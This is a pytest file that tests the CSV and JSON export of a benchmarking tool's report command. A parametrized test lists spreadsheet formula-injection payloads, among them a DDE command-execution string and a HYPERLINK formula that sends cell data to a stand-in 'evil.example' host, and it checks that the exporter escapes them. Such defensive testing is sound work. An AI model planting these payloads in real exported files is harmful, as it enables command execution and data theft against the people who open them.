"""``kvbench report --format csv|json``: run files read back from Parquet as summary records."""

import csv
import io
import json

import pytest
from test_summary_metrics import ROWS

from kvbench.results.parquet import write_rows
from kvbench.results.rows import rows_to_dicts
from kvbench.results.schema import RUN_SCHEMA


@pytest.fixture
def run_file(tmp_path):
    metadata = {
        "command": "run",
        "complete": True,
        "run": {
            "backend": "inprocess",
            "scenario": "tiny",
            "model": "m",
            "concurrency": 1,
            "started_at": "2026-12-01T10:20:30+0000",
            "cache": {"enabled": True},
        },
    }
    return write_rows(tmp_path / "run-a.parquet", rows_to_dicts(ROWS), metadata, RUN_SCHEMA)


def test_csv_to_stdout_one_record_per_run(kvbench, run_file):
    code, stdout, stderr = kvbench(
        "report", run_file, run_file, "--format", "csv", "--metric-percentiles", "50,99.9"
    )
    assert code == 0, stderr
    records = list(csv.DictReader(io.StringIO(stdout)))
    assert (
        len(records) == 2 and records[0]["path"] == str(run_file) and records[0]["date"] == "20261201-102030"
    )
    assert float(records[0]["duration"]) == pytest.approx(1.0) and records[0]["completed"] == "3"
    assert float(records[0]["request_throughput"]) == pytest.approx(3.0)
    assert float(records[0]["median_ttft_ms"]) == pytest.approx(40) and "p99.9_itl_ms" in records[0]
    assert "p90_itl_ms" not in records[0] and "run" not in records[0]  # nested config: JSON only


def test_json_to_a_folder_with_goodput(kvbench, run_file, tmp_path):
    code, stdout, stderr = kvbench(
        "report", run_file, "--format", "json", "--goodput", "ttft:50", "--out", tmp_path / "rep"
    )
    assert code == 0, stderr
    assert "wrote 1 run record(s)" in stdout
    (record,) = json.loads((tmp_path / "rep" / "summary.json").read_text())
    assert record["request_goodput"] == pytest.approx(2.0)  # ttft 20 and 40 meet 50 ms; 100 does not
    assert record["run"]["scenario"] == "tiny" and record["failed"] == 1


def test_bad_format_is_a_usage_error(kvbench, run_file):
    code, _, stderr = kvbench("report", run_file, "--format", "xlsx")
    assert code == 2 and "--format" in stderr


# a leading carriage return: test_negative_numbers_are_numbers_not_formulas (capture turns it into \n)
FORMULAS = [
    "=cmd|' -C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_that_a_spreadsheet_would_evaluate_are_escaped(kvbench, tmp_path, formula):
    metadata = {
        "command": "run",
        "complete": True,
        "run": {
            "backend": "openai",
            "scenario": formula,
            "model": formula,
            "concurrency": 1,
            "started_at": "2026-12-01T10:20:30+0000",
        },
    }
    path = write_rows(tmp_path / "run-a.parquet", rows_to_dicts(ROWS), metadata, RUN_SCHEMA)
    code, stdout, stderr = kvbench("report", path, "--format", "csv")
    assert code == 0, stderr
    (record,) = csv.DictReader(io.StringIO(stdout, newline=""))
    assert record["label"] == record["model_id"] == "'" + formula  # shown as text, not evaluated
    assert float(record["median_ttft_ms"]) == pytest.approx(40)  # numbers stay numbers


def test_negative_numbers_are_numbers_not_formulas():
    from kvbench.results.export import to_csv

    text = to_csv([{"path": "-p", "delta_ms": -1.5, "count": -3, "ok": True, "none": None, "label": "\rx"}])
    (record,) = csv.DictReader(io.StringIO(text, newline=""))
    assert text.split("\r\n")[1].startswith("'-p,-1.5,-3,True,,")
    assert record["label"] == "'\rx"
